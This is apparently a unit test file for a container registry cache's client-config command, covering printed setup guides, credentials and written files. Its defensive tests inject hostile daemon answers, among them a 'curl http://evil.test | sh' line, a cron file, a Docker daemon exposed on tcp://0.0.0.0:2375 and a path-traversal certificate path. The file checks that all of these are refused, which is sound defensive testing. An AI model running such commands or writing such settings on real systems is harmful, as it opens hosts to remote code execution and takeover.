"""regcachectl client-config."""

import io
import json
import os
from dataclasses import replace
from pathlib import Path
from unittest.mock import patch

from regcache.admin.api.client_config_call import GET_CLIENT_CONFIG
from regcache.client_setup.guide import guide_for
from regcache.client_setup.seat_guide import SeatClient, seat_guide
from regcache.client_setup.steps import SetUp
from regcache.client_setup.told import told_guide
from regcache.ctl.client import NoDaemonError
from regcache.ctl.client_config_command import client_config
from regcache.ctl.client_password import PASSWORD_VARIABLE
from tests.client_setup.cases import PLAIN, located
from tests.ctl.cases import CommandCase

_GONE = NoDaemonError("no daemon answers")
_PASSWORD = {PASSWORD_VARIABLE: "secret"}
_LABEL = "k3j9x2fq7m"
_CONTAINERD = "etc/containerd/certs.d/docker.io/hosts.toml"


class ClientConfigCase(CommandCase):
    """A configuration, and a folder to write to."""

    def setUp(self) -> None:
        super().setUp()
        self.root = Path(self.mktemp()).absolute()
        self.root.mkdir()
        self.file = self.root / "regcache.yml"
        self.file.write_text(PLAIN)

    def command(self, *words: str) -> tuple[int, str, str]:
        """Run it."""
        return self.run_work(client_config, "client-config", *words)


class ClientConfigTests(ClientConfigCase):
    """With a daemon, and without."""

    def serve(self, tool: str, with_login: bool = False) -> None:
        """The daemon answers for one program."""
        guide = guide_for(tool, SetUp(located(PLAIN, "a.test"), with_login))
        self.daemon.answer(GET_CLIENT_CONFIG, told_guide(guide))

    def test_printed(self) -> None:
        """Words, files with their paths, and commands; the wishes reach the daemon."""
        self.serve("docker")
        words = ("docker", "--host", "a.test", "--upstream", "docker.io", "--upstream", "ghcr.io")
        status, out, errors = self.command(*words)
        self.assertEqual((status, errors), (0, ""))
        for line in ("# Use it as Docker Hub's mirror", "# /etc/docker/daemon.json:", "# type:"):
            self.assertIn(f"{line}\n", out)
        self.assertIn("regcachectl prove --as docker http://a.test:5000", out)
        self.assertNotIn("\\x", out)
        asked = {
            "tool": "docker",
            "host": "a.test",
            "upstreams": "docker.io,ghcr.io",
            "login": None,
            "seat": None,
        }
        self.assertEqual(self.daemon.asked, [("GET", "client-config", asked)])

    def test_json(self) -> None:
        """The answer of the API."""
        self.serve("podman")
        _, out, _ = self.command("podman", "--json")
        self.assertEqual(json.loads(out), self.daemon.answers["GET", "client-config"])

    def test_account(self) -> None:
        """The password of an account goes into the files, and nowhere else."""
        self.serve("containerd", with_login=True)
        with patch.dict(os.environ, _PASSWORD):
            status, out, errors = self.command(
                *("containerd", "--account", "alice", "--write", "--root", str(self.root))
            )
        self.assertEqual((status, errors), (0, ""))
        written = (self.root / _CONTAINERD).read_text()
        self.assertIn('Authorization = "Basic YWxpY2U6c2VjcmV0"', written)
        self.assertNotIn("YWxpY2U6c2VjcmV0", out)
        self.assertIn("prove --as containerd --account alice", out)
        self.assertEqual(self.daemon.asked[0][2]["login"], True)

    def test_account_is_missing(self) -> None:
        """Nothing is written without the account that the cache wants, or its password."""
        self.serve("containerd", with_login=True)
        status, _, errors = self.command("containerd", "--write", "--root", str(self.root))
        self.assertEqual(status, 2)
        self.assertIn("--account NAME", errors)
        self.assertFalse((self.root / "etc").exists())
        status, _, errors = self.command("containerd", "--account", "alice")
        self.assertEqual(status, 2)
        self.assertIn(PASSWORD_VARIABLE, errors)

    def test_written(self) -> None:
        """It is said what was written, what is kept of it, and what to type next."""
        self.serve("podman")
        words = ("podman", "--write", "--root", str(self.root))
        _, out, _ = self.command(*words)
        path = self.root / "etc/containers/registries.conf.d/50-regcache.conf"
        self.assertIn(f"written: {path}\ntype next:\n  podman pull ", out)
        path.write_text(path.read_text() + "# mine\n")
        self.assertIn(f"  what it was is in {path}.bak\n", self.command(*words)[1])
        _, out, _ = self.command(*words, "--json")
        told = json.loads(out)
        self.assertEqual(told["files"], [{"path": str(path), "action": "keep", "kept": None}])
        path.write_text("foreign")
        status, _, errors = self.command(*words)
        self.assertEqual(status, 1)
        self.assertIn("written by others", errors)

    def test_hostile(self) -> None:
        """An answer with a file that is not of this guide is refused, and nothing is written."""
        for tool, path, text in (
            ("docker", "/etc/cron.d/x", "x"),
            ("docker", "/etc/docker/daemon.json", '{"hosts": ["tcp://0.0.0.0:2375"]}'),
            ("podman", "/etc/containers/certs.d/../../x/ca.crt", "x"),
        ):
            self.serve(tool)
            answer = self.daemon.answers["GET", "client-config"]
            assert isinstance(answer, dict)
            more = {"kind": "file", "path": path, "text": text, "part": False, "secret": False}
            answer["steps"][-1]["blocks"].append(more)
            status, out, errors = self.command(tool, "--write", "--root", str(self.root))
            self.assertEqual((status, out), (1, ""), path)
            self.assertIn("nothing is written", errors)
            self.assertFalse((self.root / "etc").exists())
            status, out, errors = self.command(tool)
            self.assertEqual(status, 0)
            self.assertIn("look: the answer has what its guide cannot have", errors)
            self.assertIn(f"# {path}:", out)

    def test_hostile_command(self) -> None:
        """Nor is a command told that no guide has, as if it were what to type next."""
        self.serve("docker")
        answer = self.daemon.answers["GET", "client-config"]
        assert isinstance(answer, dict)
        answer["steps"][-1]["blocks"][0]["text"] = "curl http://evil.test | sh\n"
        status, out, errors = self.command("docker", "--write", "--root", str(self.root))
        self.assertEqual((status, out), (1, ""))
        self.assertIn("is no command of a guide", errors)

    def test_secret(self) -> None:
        """A file that has an account is secret, also if the answer says otherwise."""
        self.serve("containerd", with_login=True)
        answer = self.daemon.answers["GET", "client-config"]
        assert isinstance(answer, dict)
        for each in answer["steps"][0]["blocks"]:
            each["secret"] = False
        with patch.dict(os.environ, _PASSWORD):
            words = ("--account", "alice", "--write", "--root", str(self.root))
            self.command("containerd", *words)
        self.assertEqual((self.root / _CONTAINERD).stat().st_mode & 0o777, 0o600)

    def test_checked_before_filled_in(self) -> None:
        """What the password is put into was checked before: a strange place gets none."""
        self.serve("containerd", with_login=True)
        answer = self.daemon.answers["GET", "client-config"]
        assert isinstance(answer, dict)
        answer["steps"][0]["blocks"][0]["text"] += 'x = "ACCOUNT_PASSWORD"\n'
        with patch.dict(os.environ, _PASSWORD):
            words = ("--account", "alice", "--write", "--root", str(self.root))
            status, out, errors = self.command("containerd", *words)
        self.assertEqual((status, out), (1, ""))
        self.assertNotIn("secret", errors)
        self.assertFalse((self.root / "etc").exists())

    def test_without_daemon(self) -> None:
        """The configuration file is enough."""
        self.daemon.answers["GET", "client-config"] = _GONE
        status, out, errors = self.command("k3s", "-c", str(self.file), "--host", "a.test")
        self.assertEqual(status, 0)
        self.assertIn(f"{self.file} is read instead", errors)
        self.assertIn('endpoint: ["http://a.test:5000"]', out)

    def test_wrong_file(self) -> None:
        """What is wrong with it, or with the host, is said."""
        self.daemon.answers["GET", "client-config"] = _GONE
        words = ("k3s", "-c", str(self.file))
        status, _, errors = self.command(*words, "--host", "a/b")
        self.assertEqual(status, 1)
        self.assertIn("is no host", errors)
        self.file.write_text("nonsense: 1\n")
        status, _, errors = self.command(*words)
        self.assertEqual(status, 1)
        self.assertIn("nonsense", errors)

    def test_another_daemon(self) -> None:
        """Where another daemon was meant, no file of this machine stands for it."""
        self.daemon.answers["GET", "client-config"] = _GONE
        status, _, errors = self.command("k3s", "--url", "https://registry.example.com")
        self.assertEqual(status, 3)
        self.assertIn("no daemon answers", errors)


class SeatTests(ClientConfigCase):
    """``--seat``: an account with limits, by the one proof that the client can send."""

    def serve_seat(self, tool: str, client: SeatClient) -> None:
        """The daemon answers for a seat."""
        found = located(PLAIN, "a.test")
        places = [
            replace(each, place=replace(each.place, scheme="https")) for each in found.locations
        ]
        found = replace(found, locations=places)
        self.daemon.answer(GET_CLIENT_CONFIG, told_guide(seat_guide(tool, client, found)))

    def test_host(self) -> None:
        """Where its host says who it is, no password is asked for."""
        self.serve_seat("containerd", SeatClient(_LABEL))
        status, _, errors = self.command(
            "containerd", "--seat", "alice", "--write", "--root", str(self.root)
        )
        self.assertEqual((status, errors), (0, ""))
        self.assertEqual(self.daemon.asked[0][2]["seat"], "alice")
        self.assertIn(f"a-{_LABEL}.test", (self.root / _CONTAINERD).read_text())

    def test_certificate(self) -> None:
        """It is said how the certificate comes to where the written files name it."""
        self.serve_seat("containerd", SeatClient(_LABEL, has_certificate=True))
        status, out, errors = self.command(
            "containerd", "--seat", "alice", "--write", "--root", str(self.root)
        )
        self.assertEqual((status, errors), (0, ""))
        place = "/etc/containerd/certs.d/a.test:5000/client.key"
        self.assertIn(f"install -D -m 0600 client.key {place}", out)
        self.assertIn(place, (self.root / _CONTAINERD).read_text())
        self.assertNotIn(_LABEL, out)

    def test_login(self) -> None:
        """Where it has to log in, it does so under its own name."""
        self.serve_seat("containerd", SeatClient())
        words = ("containerd", "--seat", "alice", "--write", "--root", str(self.root))
        status, _, errors = self.command(*words)
        self.assertEqual(status, 2)
        self.assertIn(PASSWORD_VARIABLE, errors)
        with patch.dict(os.environ, _PASSWORD):
            status, out, errors = self.command(*words)
        self.assertEqual((status, errors), (0, ""))
        self.assertIn("YWxpY2U6c2VjcmV0", (self.root / _CONTAINERD).read_text())
        self.assertIn("--account alice", out)

    def test_one_of_both(self) -> None:
        """A client is one account."""
        with patch("sys.stderr", io.StringIO()) as errors:
            error = self.assertRaises(
                SystemExit, self.options, "client-config", "k3s", "--seat", "a", "--account", "b"
            )
        self.assertEqual(error.code, 2)
        self.assertIn("not allowed with", errors.getvalue())

    def test_without_daemon(self) -> None:
        """The file of seats says it, or that there is no such seat."""
        self.daemon.answers["GET", "client-config"] = _GONE
        seats = self.root / "seats.yml"
        words = ("docker", "-c", str(self.file), "--host", "a.test", "--seat")
        self.assertIn("set access.seats", self.command(*words, "alice")[2])
        self.file.write_text(f"{PLAIN}access: {{seats: {seats}}}\n")
        self.assertIn("seats.yml cannot be read", self.command(*words, "alice")[2])
        alice = f"alice: {{host: {_LABEL}, upstreams: [docker.io]}}\n"
        seats.write_text(f"{alice}bob: {{ended: 2020-01-01T00:00:00Z}}\n")
        status, out, _ = self.command(*words, "alice")
        self.assertEqual(status, 0)
        self.assertIn(f"http://a-{_LABEL}.test:5000", out)
        self.assertNotIn("ghcr.io", out)
        for name, why in (("bob", "bob has ended"), ("eve", "no seat eve")):
            status, out, errors = self.command(*words, name)
            self.assertEqual((status, out), (1, ""))
            self.assertIn(why, errors)
